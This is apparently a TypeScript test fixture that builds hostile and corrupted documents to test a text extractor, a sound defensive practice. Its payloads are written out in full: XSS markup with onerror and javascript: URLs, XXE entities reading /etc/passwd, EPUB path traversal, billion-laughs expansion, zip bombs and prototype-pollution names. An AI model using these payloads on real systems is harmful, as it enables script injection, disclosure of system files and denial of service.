import { strToU8, zipSync, type Zippable, zlibSync } from "fflate";
import { lie, pdfOf, zeros } from "./bombs";
import { fixture } from "./fixture";

/** Files that mean harm or are broken, generated. `keeps` are words that have to be in the text; `refused` the code with which a file is turned away. */
export interface HostileCase {
  name: string;
  file: string;
  bytes: Uint8Array;
  keeps?: string;
  refused?: string | readonly string[];
}

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const words = "云溪县推行“三个一”服务，群众满意。";

/** Markup that runs or fetches in a page, with the words that a reader came for beside it. */
const harms: [name: string, markup: string][] = [
  ["a script", `<script>globalThis.pwned = 1</script>`],
  ["a module", `<script type="module">import("https://example.invalid/x.js")</script>`],
  ["a script from elsewhere", `<script src="https://example.invalid/x.js"></script>`],
  ["a handler of a picture", `<img src=x onerror="globalThis.pwned=1">`],
  ["a handler of a drawing", `<svg onload="globalThis.pwned=1"><text>x</text></svg>`],
  ["a script in a drawing", `<svg><script>globalThis.pwned=1</script></svg>`],
  ["a use of a drawing", `<svg><use href="https://example.invalid/x.svg#a"/></svg>`],
  ["a javascript address", `<a href="javascript:globalThis.pwned=1">点这里</a>`],
  ["a javascript address in pieces", `<a href="java&#09;script:globalThis.pwned=1">点这里</a>`],
  ["a data address", `<a href="data:text/html,<script>globalThis.pwned=1</script>">点这里</a>`],
  ["a frame", `<iframe src="https://example.invalid/"></iframe>`],
  ["a frame of its own source", `<iframe srcdoc="<script>globalThis.pwned=1</script>"></iframe>`],
  ["an object", `<object data="https://example.invalid/x.swf"></object>`],
  ["an embedded thing", `<embed src="https://example.invalid/x.swf">`],
  ["an applet", `<applet code="X.class"></applet>`],
  ["a style from elsewhere", `<link rel="stylesheet" href="https://example.invalid/x.css">`],
  ["a style that loads", `<style>@import url(https://example.invalid/x.css); p{background:url(https://example.invalid/y.png)}</style>`],
  ["a style of an element", `<p style="background:url(https://example.invalid/y.png)"></p>`],
  ["a picture from elsewhere", `<img src="https://example.invalid/track.png" srcset="https://example.invalid/2.png 2x">`],
  ["a refresh", `<meta http-equiv="refresh" content="0;url=https://example.invalid/">`],
  ["a base", `<base href="https://example.invalid/">`],
  ["a form", `<form action="https://example.invalid/"><input name=a value=b><button>送</button></form>`],
  ["a sound", `<audio src="https://example.invalid/a.mp3" autoplay></audio>`],
  ["a film", `<video poster="https://example.invalid/a.png"><source src="https://example.invalid/a.mp4"></video>`],
  ["a preload", `<link rel="preload" as="script" href="https://example.invalid/x.js">`],
  ["a formula with a script", `<math><mtext><mglyph><style><img src=x onerror=globalThis.pwned=1></style></mglyph></mtext></math>`],
  ["a template", `<template><img src=x onerror=globalThis.pwned=1></template>`],
  ["no script", `<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>"></noscript>`],
  ["an unclosed comment in a text", `<!-- x --!><img src=x onerror=globalThis.pwned=1>`],
  ["a title that closes", `<title></title><script>globalThis.pwned=1</script>`],
  ["text of a plain kind", `<xmp><script>globalThis.pwned=1</script></xmp>`],
  ["details that open", `<details open ontoggle="globalThis.pwned=1"></details>`],
  ["a portal", `<portal src="https://example.invalid/"></portal>`],
  ["a dialog", `<dialog open><form method="dialog"></form></dialog>`],
  ["a prototype as a name", `<p __proto__="x" constructor="y" toString="z"></p>`],
];

const page = (markup: string): string => `<!doctype html><html><head><meta charset="utf-8"></head><body>${markup}<p>${words}</p></body></html>`;

const html: HostileCase[] = harms.map(([name, markup]) => ({ name: `html: ${name}`, file: "a.html", bytes: utf8(page(markup)), keeps: words }));
const md: HostileCase[] = harms.map(([name, markup]) => ({
  name: `md: ${name}`,
  file: "a.md",
  bytes: utf8(`# 标题\n\n${markup}\n\n${words}\n`),
  keeps: words,
}));

const container = `<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/p.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`;
const opf = (href: string, more = ""): string =>
  `<?xml version="1.0"?>${more}<package xmlns="http://www.idpf.org/2007/opf"><metadata><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">书</dc:title></metadata><manifest><item id="a" href="${href}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>`;
const book = (parts: Zippable): Uint8Array =>
  zipSync({ mimetype: [strToU8("application/epub+zip"), { level: 0 }], "META-INF/container.xml": strToU8(container), ...parts });
const chapter = (markup: string, before = ""): Uint8Array =>
  strToU8(`<?xml version="1.0" encoding="utf-8"?>${before}<html xmlns="http://www.w3.org/1999/xhtml"><body>${markup}<p>${words}</p></body></html>`);

const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${"bcdefghij"[i]} "${`&${"abcdefghij"[i]};`.repeat(10)}">`).join("")}]>`;

const epub: HostileCase[] = [
  ...harms.slice(0, 20).map(
    ([name, markup]): HostileCase => ({
      name: `epub: ${name}`,
      file: "a.epub",
      bytes: book({ "OEBPS/p.opf": strToU8(opf("a.xhtml")), "OEBPS/a.xhtml": chapter(markup) }),
      keeps: words,
    }),
  ),
  {
    name: "epub: a path that leads out",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("../../../../etc/passwd")), "OEBPS/a.xhtml": chapter("") }),
    refused: "damaged",
  },
  {
    name: "epub: a path that leads out and in again",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("../../OEBPS/a.xhtml")), "OEBPS/a.xhtml": chapter("") }),
    keeps: words,
  },
  {
    name: "epub: a chapter on the net",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("https://example.invalid/a.xhtml")), "OEBPS/a.xhtml": chapter("") }),
    refused: "damaged",
  },
  {
    name: "epub: entities within entities",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("a.xhtml")), "OEBPS/a.xhtml": chapter("<p>&j;</p>", laughs("html")) }),
    keeps: words,
  },
  {
    name: "epub: an entity of a file",
    file: "a.epub",
    bytes: book({
      "OEBPS/p.opf": strToU8(opf("a.xhtml")),
      "OEBPS/a.xhtml": chapter("<p>&x;</p>", `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>`),
    }),
    keeps: words,
  },
  {
    name: "epub: entities in the package",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("a.xhtml", laughs("package"))), "OEBPS/a.xhtml": chapter("") }),
    keeps: words,
  },
  {
    name: "epub: parts of telling names",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("__proto__")), "OEBPS/__proto__": chapter(""), constructor: strToU8("x") }),
    keeps: words,
  },
  { name: "epub: no package", file: "a.epub", bytes: book({ "x.txt": strToU8("x") }), refused: "empty" },
  {
    name: "epub: a package that is no XML",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": new Uint8Array(500).fill(7), "OEBPS/a.xhtml": chapter("") }),
    keeps: words,
  },
  {
    name: "epub: all protected",
    file: "a.epub",
    bytes: book({
      "OEBPS/p.opf": strToU8(opf("a.xhtml")),
      "OEBPS/a.xhtml": new Uint8Array(900).fill(9),
      "META-INF/encryption.xml": strToU8(
        `<encryption xmlns:enc="x"><enc:EncryptedData><enc:CipherData><enc:CipherReference URI="OEBPS/a.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>`,
      ),
    }),
    refused: "password",
  },
];

const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const body = (inner: string, before = ""): string =>
  `<?xml version="1.0"?>${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><w:body>${inner}<w:p><w:r><w:t>${words}</w:t></w:r></w:p></w:body></w:document>`;
const word = (inner: string, more: Zippable = {}, before = ""): Uint8Array =>
  zipSync({ "[Content_Types].xml": strToU8(types), "_rels/.rels": strToU8(rels), "word/document.xml": strToU8(body(inner, before)), ...more });
const linked = (target: string, type: string): Zippable => ({
  "word/_rels/document.xml.rels": strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  ),
});
const picture = `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:link="x"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const docx: HostileCase[] = [
  { name: "docx: a picture of the net", file: "a.docx", bytes: word(picture, linked("https://example.invalid/x.png", "image")), keeps: words },
  { name: "docx: a picture of the disk", file: "a.docx", bytes: word(picture, linked("file:///etc/passwd", "image")), keeps: words },
  {
    name: "docx: a template of the net",
    file: "a.docx",
    bytes: word("", linked("https://example.invalid/x.dotm", "attachedTemplate")),
    keeps: words,
  },
  {
    name: "docx: a link that runs",
    file: "a.docx",
    bytes: word(`<w:p><w:hyperlink r:id="x"><w:r><w:t>点这里</w:t></w:r></w:hyperlink></w:p>`, linked("javascript:globalThis.pwned=1", "hyperlink")),
    keeps: words,
  },
  {
    name: "docx: markup as text",
    file: "a.docx",
    bytes: word(`<w:p><w:r><w:t>&lt;script&gt;globalThis.pwned=1&lt;/script&gt;</w:t></w:r></w:p>`),
    keeps: "<script>globalThis.pwned=1</script>",
  },
  { name: "docx: entities within entities", file: "a.docx", bytes: word("", {}, laughs("w:document")), refused: "damaged" },
  {
    name: "docx: an entity of a file",
    file: "a.docx",
    bytes: word("", {}, `<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>`),
    refused: "damaged",
  },
  { name: "docx: macros", file: "a.docm", bytes: word("", { "word/vbaProject.bin": new Uint8Array(4000).fill(1) }), keeps: words },
  {
    name: "docx: parts of telling names",
    file: "a.docx",
    bytes: word("", { "word/__proto__.xml": strToU8("<x/>"), "word/constructor.xml": strToU8("<x/>") }),
    keeps: words,
  },
  {
    name: "docx: a style of a telling name",
    file: "a.docx",
    bytes: word(`<w:p><w:pPr><w:pStyle w:val="__proto__"/></w:pPr><w:r><w:t>好</w:t></w:r></w:p>`),
    keeps: words,
  },
  {
    name: "docx: deep tables",
    file: "a.docx",
    bytes: word(`${"<w:tbl><w:tr><w:tc>".repeat(60)}<w:p><w:r><w:t>深</w:t></w:r></w:p>${"</w:tc></w:tr></w:tbl>".repeat(60)}`),
    keeps: words,
  },
  {
    name: "docx: no text",
    file: "a.docx",
    bytes: zipSync({ "[Content_Types].xml": strToU8(types), "_rels/.rels": strToU8(rels), "word/document.xml": strToU8("<x/>") }),
    refused: ["damaged", "empty"],
  },
  {
    name: "docx: text that is no XML",
    file: "a.docx",
    bytes: zipSync({ "[Content_Types].xml": strToU8(types), "_rels/.rels": strToU8(rels), "word/document.xml": new Uint8Array(500).fill(60) }),
    refused: ["damaged", "empty"],
  },
];

/** A container of Word's with a stream of the name that a password gives it. */
const underPassword = (): Uint8Array => {
  const bytes = new Uint8Array(4096);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  [..."EncryptedPackage"].forEach((letter, i) => {
    bytes[1024 + i * 2] = letter.charCodeAt(0);
  });
  return bytes;
};

const manyParts = (): Uint8Array => {
  const parts: Zippable = { "word/document.xml": strToU8(body("")) };
  for (let i = 0; i < 65_000; i++) parts[`word/p${i}.xml`] = [new Uint8Array(), { level: 0 }];
  return zipSync(parts, { level: 0 });
};

const bombs = (): HostileCase[] => [
  { name: "a docx of 100 MB in 100 kB", file: "a.docx", bytes: word("", { "word/styles.xml": zeros(100) }), refused: "too-large" },
  {
    name: "an epub of 100 MB in 100 kB",
    file: "a.epub",
    bytes: book({ "OEBPS/p.opf": strToU8(opf("a.xhtml")), "OEBPS/a.xhtml": zeros(100) }),
    refused: "too-large",
  },
  {
    name: "a docx whose headers say less",
    file: "a.docx",
    bytes: lie(word("", { "word/styles.xml": zeros(40) }), 100),
    refused: ["too-large", "damaged"],
  },
  { name: "a docx whose headers say four gigabytes", file: "a.docx", bytes: lie(word(""), 0xfffffff0), refused: "damaged" },
  { name: "65,000 parts", file: "a.docx", bytes: manyParts(), refused: "too-large" },
  {
    name: "a PDF whose page unpacks to 200 MB",
    file: "a.pdf",
    bytes: pdfOf([{ body: zlibSync(zeros(200), { level: 9 }), says: "/Filter/FlateDecode" }]),
    refused: "too-large",
  },
  { name: "an archive in an archive", file: "a.zip", bytes: zipSync({ "a.zip": zipSync({ "b.zip": zeros(1) }) }), refused: "unsupported" },
];

const cut = (name: string, share: number): Uint8Array => fixture(name).slice(0, Math.floor(fixture(name).length * share));
/** Every so many bytes one is another. */
const corrupt = (name: string, every: number): Uint8Array => fixture(name).map((byte, i) => (i > 64 && i % every === 0 ? byte ^ 0x55 : byte));

const anything = ["damaged", "empty", "unsupported", "scan", "too-large", "password"];
const broken: HostileCase[] = ["report.docx", "report.epub", "report-libreoffice.pdf", "report-chromium.pdf", "saved-page.html"].flatMap((name) => [
  ...[0.1, 0.5, 0.9, 0.99].map(
    (share): HostileCase => ({ name: `${name}, the first ${share * 100} %`, file: name, bytes: cut(name, share), refused: anything }),
  ),
  ...[97, 1009].map(
    (every): HostileCase => ({ name: `${name}, one byte in ${every} another`, file: name, bytes: corrupt(name, every), refused: anything }),
  ),
]);

const plain: HostileCase[] = [
  { name: "NUL in a text", file: "a.txt", bytes: utf8(`${words}\0\0${words}`), keeps: words },
  {
    name: "lone halves of pairs in UTF-16",
    file: "a.txt",
    bytes: Uint8Array.from([0xff, 0xfe, 0x00, 0xd8, ...new Uint8Array(Buffer.from(words, "utf16le")), 0x00, 0xdc]),
    keeps: words,
  },
  { name: "a million line ends", file: "a.txt", bytes: utf8(`${"\n".repeat(1_000_000)}${words}`), keeps: words },
  { name: "a million lines", file: "a.txt", bytes: utf8("网\n".repeat(300_000) + words), keeps: words },
  { name: "1 MB without a line end", file: "a.txt", bytes: utf8(words.repeat(20_000)), keeps: words },
  { name: "1 MB without a mark", file: "a.txt", bytes: utf8("网".repeat(350_000)), keeps: "网网" },
  { name: "1 MB of spaces", file: "a.txt", bytes: utf8(`${words}${" ".repeat(1_000_000)}${words}`), keeps: words },
  { name: "1 MB of open brackets", file: "a.txt", bytes: utf8(`${"（".repeat(300_000)}${words}`), keeps: words },
  { name: "1 MB of quotation marks", file: "a.txt", bytes: utf8(`${"“”".repeat(150_000)}${words}`), keeps: words },
  { name: "marks of direction", file: "a.txt", bytes: utf8(`\u202e${words}\u2066`), keeps: words },
  { name: "half a character at the end", file: "a.txt", bytes: utf8(words).slice(0, -1), keeps: "群众满意" },
  { name: "half a character at the front", file: "a.txt", bytes: utf8(words).slice(1), keeps: "群众满意" },
  { name: "nothing", file: "a.txt", bytes: new Uint8Array(), refused: "empty" },
  { name: "only white space", file: "a.txt", bytes: utf8(" \n\u3000\n"), refused: "empty" },
  {
    name: "a picture by the name of a text",
    file: "a.txt",
    bytes: Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
    refused: "unsupported",
  },
  { name: "a program by the name of a docx", file: "a.docx", bytes: Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), refused: "unsupported" },
  { name: "a docx under a password", file: "a.docx", bytes: underPassword(), refused: "password" },
  { name: "a table of prototypes", file: "a.txt", bytes: utf8(`__proto__\tconstructor\ntoString\t${words}\n`), keeps: words },
  { name: "front matter of prototypes", file: "a.md", bytes: utf8(`---\n__proto__: x\ntitle: 题\n---\n\n${words}\n`), keeps: words },
  { name: "deep elements", file: "a.html", bytes: utf8(page(`${"<div>".repeat(100_000)}深`)), keeps: words },
  { name: "deep quotes in Markdown", file: "a.md", bytes: utf8(`${">".repeat(5000)} 深\n\n${words}\n`), keeps: words },
  { name: "1 MB of stars in Markdown", file: "a.md", bytes: utf8(`${"*a ".repeat(100_000)}\n\n${words}\n`), keeps: words },
  { name: "1 MB of open links in Markdown", file: "a.md", bytes: utf8(`${"[".repeat(100_000)}\n\n${words}\n`), keeps: words },
  { name: "an element without end", file: "a.html", bytes: utf8(`<html><body><p>${words}</p><p title="${"x".repeat(500_000)}`), keeps: words },
  { name: "a script without end", file: "a.html", bytes: utf8(`<html><body><p>${words}</p><script>${"x".repeat(500_000)}`), keeps: words },
  {
    name: "many attributes",
    file: "a.html",
    bytes: utf8(page(`<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=1`).join(" ")}>好</p>`)),
    keeps: words,
  },
  { name: "entities that are none", file: "a.html", bytes: utf8(page(`<p>&#x110000; &#xD800; &#0; &nosuch; &amp;lt;</p>`)), keeps: words },
  {
    name: "subtitles with times that are none",
    file: "a.srt",
    bytes: utf8(`1\n99:99:99,999 --> 00:00:00,000\n${words}\n\n-1\n00:00 --> x\n${words}\n`),
    keeps: words,
  },
];

/** Large and slow to make: built when they are asked for. */
export const hostileBombs = bombs;
export const hostileCases: HostileCase[] = [...html, ...md, ...epub, ...docx, ...plain, ...broken];
